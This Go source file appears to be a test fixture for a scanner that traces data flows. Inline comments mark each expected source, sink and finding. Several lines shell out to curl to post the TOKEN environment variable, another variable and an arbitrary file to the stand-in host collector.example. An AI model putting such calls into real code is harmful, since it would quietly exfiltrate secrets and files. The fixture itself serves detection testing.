// Programs that send what they are given.
package models

import (
	"context"
	"os"
	"os/exec"
)

func data(ctx context.Context) {
	exec.Command("curl", "-d", os.Getenv("TOKEN"), "https://collector.example/u").Run() //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1
	exec.Command("echo", "-d", os.Getenv("TOKEN")).Run() //~ ok
	exec.CommandContext(ctx, "curl", "-d", os.Getenv("NAME"), "https://collector.example/u").Run() //~ source(ENVIRONMENT) f2, sink(egress.http) f2, finding(traced) f2
	exec.CommandContext(ctx, "echo", "-d", os.Getenv("NAME")).Run() //~ ok
}

func files(path string) {
	exec.Command("curl", "-F", "file=@"+path, "https://collector.example/u").Run() //~ source(FILE) f3, sink(egress.http) f3, finding(file-upload, traced) f3
	exec.Command("curl", "-o", path, "https://collector.example/u").Run() //~ ok
}
